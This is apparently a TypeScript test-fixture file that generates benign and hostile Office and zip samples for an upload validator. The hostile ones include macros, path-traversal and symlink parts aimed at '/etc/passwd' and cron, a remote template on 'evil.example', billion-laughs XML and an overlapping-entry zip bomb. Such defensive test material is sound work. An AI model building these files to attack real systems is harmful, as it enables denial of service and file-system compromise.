import {
  type ZipFile,
  makeXlsx,
  makeZip,
  sheetXml,
} from "../../src/files/sheet/testing/make-zip.ts";
import { type Sample, bad, good, latin, laughs } from "./hostile-sample.ts";

const xmlHead = '<?xml version="1.0" encoding="UTF-8"?>';
const relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const docxParts: readonly ZipFile[] = [
  { name: "[Content_Types].xml", text: `${xmlHead}<Types/>` },
  { name: "word/document.xml", text: `${xmlHead}<w:document/>` },
];
const docx = (...more: readonly ZipFile[]) =>
  makeZip([...docxParts.filter(({ name }) => !more.some((part) => part.name === name)), ...more]);
const outside = (type: string) =>
  docx({
    name: "word/_rels/settings.xml.rels",
    text: `<Relationships><Relationship Id="r1" Type="${relations}/${type}" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>`,
  });

/** The directory's entry says a symbolic link of Unix. */
function asLink(zip: Uint8Array): Uint8Array {
  const bytes = Buffer.from(zip);
  const last = bytes.lastIndexOf(latin("PK\x01\x02"));
  bytes.writeUInt16LE(0o120_777, last + 40);
  return bytes;
}

/** Every entry of the directory unpacks the same bytes: a bomb without nesting. */
function overlapping(): Uint8Array {
  const one = Buffer.from(docx({ name: "a.xml", bytes: Buffer.alloc(10_000_000) }));
  const at = one.lastIndexOf(latin("PK\x01\x02"));
  const end = one.lastIndexOf(latin("PK\x05\x06"));
  const entry = one.subarray(at, end);
  const more = Array.from({ length: 500 }, (_, number) => {
    const copy = Buffer.from(entry);
    copy.write(String(number % 10), 46);
    return copy;
  });
  const tail = Buffer.from(one.subarray(end));
  tail.writeUInt16LE(tail.readUInt16LE(8) + 500, 8);
  tail.writeUInt16LE(tail.readUInt16LE(10) + 500, 10);
  return Buffer.concat([one.subarray(0, end), ...more, tail]);
}

/** Office files and archives. */
export function offices(): Sample[] {
  const sheet = makeXlsx(sheetXml('<row r="1"><c r="A1"><v>1</v></c></row>'));
  const honest = docx();
  const text = Buffer.from(`${xmlHead}${"字".repeat(9000)}`);
  return [
    good("an honest Word document", "纪要.docx", honest),
    good("an honest workbook", "清单.xlsx", sheet),
    good(
      "a workbook in a Word document",
      "a.docx",
      docx({ name: "word/embeddings/1.xlsx", bytes: sheet, stored: true }),
    ),
    bad("macros", "b.docx", docx({ name: "word/vbaProject.bin", text: "x" })),
    bad(
      "macros by their type alone",
      "c.docx",
      docx({
        name: "[Content_Types].xml",
        text: "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>",
      }),
    ),
    bad(
      "a macro sheet",
      "d.xlsx",
      makeXlsx("", [{ name: "xl/macrosheets/sheet1.xml", text: "<x/>" }]),
    ),
    bad("an ActiveX control", "e.docx", docx({ name: "word/activeX/activeX1.bin", text: "x" })),
    bad(
      "an embedded object",
      "f.docx",
      docx({ name: "word/embeddings/oleObject1.bin", text: "x" }),
    ),
    bad("a program inside", "g.docx", docx({ name: "word/media/a.exe", text: "MZ" })),
    bad(
      "an archive inside",
      "h.docx",
      docx({
        name: "word/media/a.zip",
        bytes: makeZip([{ name: "b.zip", bytes: makeZip([{ name: "c", text: "c" }]) }]),
      }),
    ),
    bad("a part that climbs out", "i.docx", docx({ name: "../../etc/cron.d/x", text: "x" })),
    bad("a part at the root", "j.docx", docx({ name: "/etc/passwd", text: "x" })),
    bad("a part with backslashes", "k.docx", docx({ name: "..\\..\\a.txt", text: "x" })),
    bad(
      "a symbolic link",
      "l.docx",
      asLink(docx({ name: "word/link", text: "/etc/passwd", stored: true })),
    ),
    bad(
      "a billion laughs in a document",
      "m.docx",
      docx({ name: "word/document.xml", text: `${laughs}<w:document/>` }),
    ),
    bad("a template from outside", "n.docx", outside("attachedTemplate")),
    bad("a picture from outside", "o.docx", outside("image")),
    good("a link to a web page", "p.docx", outside("hyperlink")),
    bad(
      "a part a thousand times its size",
      "q.docx",
      docx({ name: "word/media/a.xml", bytes: Buffer.alloc(60_000_000) }),
    ),
    bad(
      "a part larger than it declares",
      "r.docx",
      docx({ name: "word/styles.xml", bytes: text, declared: 500 }),
    ),
    bad("parts that share their bytes", "s.docx", overlapping()),
    bad("a password", "t.docx", docx({ name: "word/a.xml", text: "x", flags: 1 })),
    bad("half a document", "u.docx", honest.subarray(0, honest.length - 40)),
    bad("an archive of anything", "v.zip", makeZip([{ name: "a.txt", text: "a" }])),
    bad(
      "ten thousand parts",
      "w.docx",
      makeZip([
        ...docxParts,
        ...Array.from({ length: 10_001 }, (_, at) => ({ name: `word/${at}.xml`, stored: true })),
      ]),
    ),
    bad(
      "slides",
      "x.pptx",
      makeZip([{ name: "[Content_Types].xml" }, { name: "ppt/presentation.xml" }]),
    ),
    bad(
      "a binary workbook",
      "y.xlsb",
      makeZip([{ name: "[Content_Types].xml" }, { name: "xl/workbook.bin" }]),
    ),
    bad(
      "a Java archive",
      "z.jar",
      makeZip([{ name: "META-INF/MANIFEST.MF", text: "Main-Class: A" }]),
    ),
  ];
}
